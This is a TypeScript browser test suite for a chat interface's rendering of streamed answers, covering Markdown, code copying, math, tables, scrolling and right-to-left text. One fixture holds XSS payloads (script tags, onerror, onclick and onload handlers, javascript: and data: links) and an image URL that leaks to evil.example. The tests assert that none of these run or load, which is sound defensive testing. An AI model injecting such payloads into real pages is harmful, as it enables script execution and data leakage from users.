import { describe, expect, it } from 'vitest';
import { replayAnswer } from '../../tools/screenshots/replayed-answer.mjs';
import { needingBrowser } from '../support/chromium.js';
import { type ChatPage, TestBrowser } from '../support/page.js';
import { servePage } from '../support/served-page.js';

const { title, isMissing } = needingBrowser('the text of an answer');

const HOSTILE = `<script>window.pwned = 1</script>

<img src=x onerror="window.pwned = 2">

Inline <b onclick="window.pwned = 3">bold</b> and [a link](javascript:window.pwned=4), [data](data:text/html,<script>window.pwned=5</script>).

<svg onload="window.pwned = 6"><a href="javascript:window.pwned=7">x</a></svg>

<div style="position:fixed">over everything</div>

![x](https://evil.example/?leak=1) and ![y](//evil.example/2) and ![z](javascript:1)

[fine](https://good.example/path) <https://auto.example/>
`;

const CODE =
  '```ts\nconst answer: string = `${6 * 7}`; // "quoted" & <tagged>\n\n\tif (answer) { return "naïve 🦙"; }\n```\n';

/** Has the next answer be this text, in pieces, as a server would stream it. */
async function replay(chat: ChatPage, text: string): Promise<void> {
  const pieces = text.match(/[\s\S]{1,7}/g) ?? [];
  await replayAnswer(
    chat.page,
    pieces.map((content) => ({ content })),
  );
  await chat.ask('Write something.');
}

describe.skipIf(isMissing)(title, () => {
  const tested = servePage(['-c', '2048']);

  async function answered(text: string, options?: Parameters<TestBrowser['open']>[1]): Promise<ChatPage> {
    const chat = await tested.browser.open(tested.served.url, options);
    await replay(chat, text);
    return chat;
  }

  it('never becomes elements, scripts or addresses that run', async () => {
    const { page, text } = await answered(HOSTILE);
    expect(await text.locator('script, img, svg, iframe, style, [style], [onclick], [onerror]').count()).toBe(0);
    const shown = (await text.textContent()) ?? '';
    for (const part of [
      '<script>window.pwned = 1</script>',
      '<img src=x',
      '<b onclick=',
      '<svg onload=',
      '<div style=',
    ]) {
      expect(shown).toContain(part);
    }
    const links = await text
      .locator('a')
      .evaluateAll((all) => all.map((a) => [a.getAttribute('href'), a.getAttribute('rel')]));
    const rel = 'noreferrer noopener nofollow';
    expect(links).toEqual([
      ['https://evil.example/?leak=1', rel],
      ['https://good.example/path', rel],
      ['https://auto.example/', rel],
    ]);
    expect(await page.evaluate('window.pwned')).toBeUndefined();
  });

  it('loads no picture, and shows its host', async () => {
    const { text, page } = await answered('![x](https://evil.example/?leak=1)');
    // A request elsewhere would be a complaint of the browser.
    await page.waitForTimeout(200);
    expect(await text.textContent()).toBe('Picture at evil.example: x');
  });

  it.each([
    ['https, as on this machine', false],
    ['plain http', true],
  ])('gives the very bytes of a code block to who copies it, over %s', async (_, isPlain) => {
    const permissions = { permissions: ['clipboard-read', 'clipboard-write'] };
    const chat = await tested.browser.open(tested.served.url, permissions);
    if (isPlain) await chat.page.evaluate('Object.defineProperty(navigator, "clipboard", { value: undefined })');
    await replay(chat, CODE);
    const code = CODE.slice('```ts\n'.length, -'\n```\n'.length);
    await chat.text.getByRole('button', { name: 'Copy', exact: true }).click();
    await chat.text.getByText('Copied').waitFor();
    await chat.page.evaluate('delete navigator.clipboard').catch(() => undefined);
    await chat.field.focus();
    await chat.page.keyboard.press('ControlOrMeta+v');
    expect(await chat.field.inputValue()).toBe(code);
  });

  it('colours code when its block is closed, and leaves its text', async () => {
    const { text } = await answered(CODE);
    await text.locator('.code-keyword', { hasText: 'const' }).waitFor();
    expect(await text.locator('pre code').textContent()).toBe(CODE.slice('```ts\n'.length, -'\n```\n'.length));
  });

  it('tells money, formulas and code apart', async () => {
    const { text } = await answered(
      'It costs $5 and $6, so \\(x^2\\) and\n\n$$\ny = \\frac{1}{2}\n$$\n\nnot `\\(bar\\)`.\n',
    );
    await text.locator('math').nth(1).waitFor();
    expect(await text.locator('math').count()).toBe(2);
    expect(await text.locator('p').first().textContent()).toContain('It costs $5 and $6, so');
    expect(await text.locator('code').textContent()).toBe('\\(bar\\)');
  });

  it('has lists, tables, tasks, quotes and headings', async () => {
    const { text } = await answered(
      '# A\n\n- [x] done\n- [ ] open\n\n3. three\n4. four\n\n> q\n\n| a | b |\n|---|--:|\n| 1 | 2, 3 |\n',
    );
    expect(await text.locator('h1, blockquote, ul li, ol li, table').count()).toBe(7);
    expect(await text.locator('ol').getAttribute('start')).toBe('3');
    expect(await text.locator('input:checked').count()).toBe(1);
    await text.getByRole('button', { name: 'Copy as CSV' }).waitFor();
  });

  it('is the same after a reload, when it came at once', async () => {
    const everything = `${HOSTILE}\n${CODE}\n[a][later] and $x$\n\n- one\n\n- two\n\n[later]: https://ref.example/\n`;
    const chat = await answered(everything);
    await chat.text.locator('math, .code-keyword').nth(1).waitFor();
    const before = await chat.text.evaluate((element) => element.innerHTML);
    await chat.page.reload();
    await chat.text.locator('math, .code-keyword').nth(1).waitFor();
    expect(await chat.text.evaluate((element) => element.innerHTML)).toBe(before);
    expect(before).toContain('href="https://ref.example/"');
  });

  it('is grouped, so that what is out of sight costs nothing, and reads as one', async () => {
    const lines = Array.from({ length: 60 }, (_, index) => `Line ${index}.`);
    const { text } = await answered(lines.join('\n\n'));
    const chapters = text.locator('.chapter');
    await expect.poll(() => text.locator('p').count()).toBe(60);
    const sizes = await chapters.evaluateAll((all) => all.map(({ children }) => children.length));
    expect(sizes).toEqual([24, 24, 12]);
    const skipping = await chapters.evaluateAll((all) =>
      all.map((one) => one.ownerDocument.defaultView?.getComputedStyle(one).contentVisibility),
    );
    expect(new Set(skipping)).toEqual(new Set(['auto']));
    expect(await text.locator('p').allTextContents()).toEqual(lines);
  });

  it('stays where its reader scrolled to, and is followed again by a button', async () => {
    const chat = await tested.browser.open(tested.served.url, { viewport: { width: 800, height: 400 } });
    await replay(chat, 'A line.\n\n'.repeat(60));
    const box = chat.page.locator('.messages');
    const top = () => box.evaluate((element) => element.scrollTop);
    await expect.poll(top).toBeGreaterThan(500);
    await box.hover();
    await chat.page.mouse.wheel(0, -400);
    await chat.page.getByRole('button', { name: 'New text below' }).waitFor();
    const there = await top();
    await chat.text.evaluate((element) => element.append('x'.repeat(5000)));
    await chat.page.waitForTimeout(200);
    expect(Math.abs((await top()) - there)).toBeLessThan(2);
    await chat.page.getByRole('button', { name: 'New text below' }).click();
    await expect
      .poll(() => box.evaluate((element) => element.scrollHeight - element.clientHeight - element.scrollTop))
      .toBeLessThan(2);
  });

  it('has each block in its own direction, and mirrored bubbles', async () => {
    const chat = await answered('مرحبا بالعالم\n\n```js\nconst x = 1;\n```\n\nEnglish again.\n');
    const direction = (selector: string) =>
      chat.text.locator(selector).evaluate((element) => String(element.computedStyleMap().get('direction')));
    expect([await direction('p >> nth=0'), await direction('pre'), await direction('p >> nth=1')]).toEqual([
      'rtl',
      'ltr',
      'ltr',
    ]);
    const own = chat.page.locator('article.own .bubble');
    const right = async () => (await own.boundingBox())!.x;
    const before = await right();
    await chat.page.evaluate('document.documentElement.dir = "rtl"');
    expect(await right()).toBeLessThan(before);
  });
});
